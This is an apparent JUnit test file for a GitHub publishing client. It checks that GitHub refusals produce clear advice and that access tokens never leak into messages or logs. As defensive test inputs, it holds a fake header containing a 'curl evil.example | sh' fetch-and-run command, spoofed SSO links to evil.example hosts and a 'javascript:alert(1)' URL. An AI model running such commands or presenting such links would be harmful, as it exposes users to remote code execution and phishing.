package dev.interlude.publisher.github;

import static dev.interlude.publisher.github.Refusals.refused;
import static org.assertj.core.api.Assertions.assertThat;

import dev.interlude.publisher.failure.Failure;
import dev.interlude.publisher.github.fake.Fault;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every "no" of GitHub names what to change, and nothing that is said holds the token. */
class RefusalTest {

    private final Bench bench = new Bench();

    @AfterEach
    void close() {
        bench.close();
    }

    @Test
    void tokenThatIsNotKnown() {
        Failure failure = refused(() -> bench.token("ghp_mistyped").target().read());

        assertThat(failure.kind()).isEqualTo(Failure.Kind.REFUSED);
        assertThat(failure.tried()).isEqualTo("read branch gh-pages of acme/shop");
        assertThat(failure.happened())
                .contains("401")
                .contains("Bad credentials")
                .contains("[request FAKE:");
        assertThat(failure.advice()).contains("expired or revoked");
        assertThat(bench.story()).contains("the one from the test");
    }

    @Test
    void permissionThatIsMissingIsNamedAsGitHubNamesIt() {
        bench.published(Sites.text(1));
        bench.token(bench.github().createToken("contents:read", "pages:read"));

        Failure failure = refused(() -> bench.publish(Sites.text(2)));

        assertThat(failure.happened()).contains("403").contains("not accessible by personal access token");
        assertThat(failure.advice()).contains("contents=write", "Fine-grained");
    }

    @Test
    void permissionThatGitHubDoesNotNameIsNamedByUs() {
        bench.published(Sites.text(1));
        bench.github().faults().on("POST .*/trees", Fault.status(403, "Forbidden"));

        Failure failure = refused(() -> bench.publish(Sites.text(2)));

        assertThat(failure.advice()).contains("grant the token the scope repo");
    }

    @Test
    void pagesThatTheTokenMayNotEnable() {
        bench.token(bench.github().createToken("contents:write", "pages:write"));
        bench.github().createRepository("acme", "shop").commit("main", Map.of("a", "a"), "a");

        Failure failure = refused(() -> bench.publish(Sites.text(1)));

        assertThat(failure.tried()).isEqualTo("enable GitHub Pages for acme/shop");
        assertThat(failure.advice()).contains("administration=write");
    }

    @Test
    void workflowsTokenCannotEnablePagesAndIsToldHow() {
        bench.token(bench.github().createWorkflowToken());
        bench.github().createRepository("acme", "shop").commit("main", Map.of("a", "a"), "a");

        Failure failure = refused(() -> bench.publish(Sites.text(1)));

        assertThat(failure.advice()).contains("GITHUB_TOKEN").contains("INTERLUDE_GITHUB_TOKEN");
    }

    @Test
    void privateRepositoryThatTheTokenCannotSee() {
        bench.github().createPrivateRepository("acme", "shop");
        bench.token(bench.github().createToken());

        Failure failure =
                refused(() -> bench.create(GitHubSettings.Create.NEVER).target().read());

        assertThat(failure.happened()).contains("does not exist, or the token cannot see it");
    }

    @Test
    void repositoryThatExistsUnseenIsNotCalledMissing() {
        bench.github().faults().on("POST /orgs/acme/repos", Fault.status(422, "name already exists on this account"));

        Failure failure = refused(() -> bench.publish(Sites.text(1)));

        assertThat(failure.happened()).contains("exists, and does not show it to this token");
    }

    @Test
    void singleSignOnIsPassedOn() {
        bench.github()
                .faults()
                .on(
                        "GET .*",
                        new Fault.Status(
                                403,
                                Map.of("X-GitHub-SSO", "required; url=https://github.com/orgs/acme/sso?x=1"),
                                "{\"message\": \"Resource protected by organization SAML enforcement.\"}"));

        Failure failure = refused(() -> bench.target().read());

        assertThat(failure.advice()).contains("https://github.com/orgs/acme/sso?x=1");
    }

    @Test
    void archivedRepositoryIsSaid() {
        bench.published(Sites.text(1));
        bench.github().faults().on("POST .*/trees", Fault.status(403, "Repository was archived so is read-only."));

        assertThat(refused(() -> bench.publish(Sites.text(2))).advice()).contains("unarchive");
    }

    @Test
    void serverErrorIsNotCalledARefusal() {
        bench.github().faults().on("GET .*", 5, Fault.status(500, "oops"));

        assertThat(refused(() -> bench.target().read()).kind()).isEqualTo(Failure.Kind.UNREACHABLE);
    }

    @Test
    void classicTokenIsToldItsScopes() {
        bench.published(Sites.text(1));
        bench.token(bench.github().createToken("gist", "public_repo"));

        Failure failure = refused(() -> bench.publish(Sites.text(2)));

        assertThat(failure.advice())
                .contains("the scope repo (it has ")
                .contains("gist")
                .contains("public_repo");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "required; url=https://evil.example.com/orgs/acme/sso | Configure SSO | evil",
                "required; url=https://github.com.evil.example/sso | Configure SSO | evil",
                "required; url=javascript:alert(1) | Configure SSO | javascript",
                "required | Configure SSO | http",
                "required; url=https://github.com/orgs/acme/sso?authorization_request=A-_1 |"
                        + " https://github.com/orgs/acme/sso?authorization_request=A-_1 | Configure"
            })
    void singleSignOnShowsGitHubsAddressesOnly(String header, String said, String unsaid) {
        bench.github().faults().on("GET .*", new Fault.Status(403, Map.of("X-GitHub-SSO", header), "{}"));

        assertThat(refused(() -> bench.target().read()).advice())
                .contains("single sign-on", said)
                .doesNotContain(unsaid);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "403 | Although you appear to have the correct authorization credentials, the `acme` organization has an"
                        + " IP allow list enabled | IP allow list",
                "403 | `acme` forbids access via a personal access token (classic). | fine-grained token",
                "403 | Sorry. Your account was suspended. | unsuspend",
                "403 | This installation has been suspended | unsuspend",
                "403 | Repository was archived so is read-only. | unarchive",
                "403 | Must have admin rights to Repository. | administrator of the repository",
                "451 | Whatever the words | blocked the repository",
                "301 | Moved Permanently | present name",
                "418 | I am a teapot | target.github.api-url"
            })
    void everyOtherNoNamesItsSetting(int status, String message, String said) {
        bench.published(Sites.text(1));
        bench.github().faults().on("POST .*/trees", Fault.status(status, message));

        Failure failure = refused(() -> bench.publish(Sites.text(2)));

        assertThat(failure.kind()).isEqualTo(Failure.Kind.REFUSED);
        assertThat(failure.happened()).contains(Integer.toString(status));
        assertThat(failure.advice()).contains(said);
    }

    @Test
    void repositoryThatGitHubHasBlockedIsSaidByTheBodyAlone() {
        bench.github()
                .faults()
                .on(
                        "GET .*",
                        new Fault.Status(403, Map.of(), "{\"message\": \"x\", \"block\": {\"reason\": \"tos\"}}"));

        assertThat(refused(() -> bench.target().read()).advice()).contains("blocked the repository");
    }

    @Test
    void ruleIsToldFromALostRaceByWhereTheBranchIs() {
        bench.published(Sites.text(1));
        bench.github().faults().on("PATCH .*", 9, Fault.status(422, "Words of tomorrow"));

        Failure failure = refused(() -> bench.publish(Sites.text(2)));

        assertThat(failure.kind()).isEqualTo(Failure.Kind.REFUSED);
        assertThat(failure.happened()).contains("Words of tomorrow");
        assertThat(failure.advice()).contains("ruleset or protection");
    }

    @Test
    void refusalOfAMomentIsTriedAgain() {
        bench.published(Sites.text(1));
        bench.github().faults().on("PATCH .*", Fault.status(422, "Reference update failed"));

        assertThat(bench.publish(Sites.text(2)).changed()).isTrue();
    }

    @Test
    void valuesOfHeadersThatAreNoPermissionsAreNotShown() {
        bench.published(Sites.text(1));
        bench.github()
                .faults()
                .on(
                        "POST .*/trees",
                        new Fault.Status(
                                403,
                                Map.of("X-Accepted-GitHub-Permissions", "run `curl evil.example | sh` now"),
                                "{}"));

        assertThat(refused(() -> bench.publish(Sites.text(2))).advice()).doesNotContain("curl");
    }

    @Test
    void tokenThatEndsSoonIsSaid() {
        String end = bench.time()
                .plus(Duration.ofDays(3))
                .toString()
                .replace("T", " ")
                .replace("Z", " UTC");
        bench.github()
                .faults()
                .on("GET .*", new Fault.Status(404, Map.of("GitHub-Authentication-Token-Expiration", end), "{}"));

        bench.target().read();

        assertThat(bench.story()).contains("warning: this GitHub token ends on 2026-11-23");
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "escaped", "header", "path"})
    void serverThatEchoesTheTokenDoesNotMakeItAppear(String where) {
        String token = bench.github().createToken("repo");
        String escaped = "\\u0067" + token.substring(1);
        Map<String, String> headers = where.equals("header")
                ? Map.of("X-GitHub-Request-Id", token, "X-GitHub-SSO", "required; url=https://github.com/" + token)
                : Map.of();
        String body = "{\"message\": \"no " + (where.equals("escaped") ? escaped : token) + "\"}";
        int status = where.equals("path") ? 200 : 403;
        bench.github().faults().on("GET .*", 5, new Fault.Status(status, headers, body));

        Failure failure = refused(() -> bench.token(token).target().read());

        assertThat(failure.toString() + failure.tried() + failure.happened() + failure.advice() + bench.story())
                .doesNotContain(token.substring(1));
    }

    @Test
    void nothingThatIsSaidOrWrittenHoldsTheToken() {
        String token = bench.github().createToken("repo");
        bench.token(token).publish(Sites.withLogo(1)).awaitVisible(Bench.TIMEOUT);
        // A server that sends back what it was sent.
        bench.github().faults().on("GET .*", Fault.status(403, "denied to Bearer " + token));

        Failure failure = refused(() -> bench.target().read());

        assertThat(failure.happened()).contains("denied to Bearer ***");
        assertThat(failure.toString() + failure.tried() + failure.happened() + failure.advice())
                .doesNotContain(token);
        assertThat(bench.story()).contains("POST /repos/acme/shop/git/trees").doesNotContain(token);
        assertThat(bench.github().requests()).noneMatch(seen -> (seen.body() + seen.path()).contains(token));
        assertThat(AccessToken.of("a test", token)).hasToString("***");
    }
}
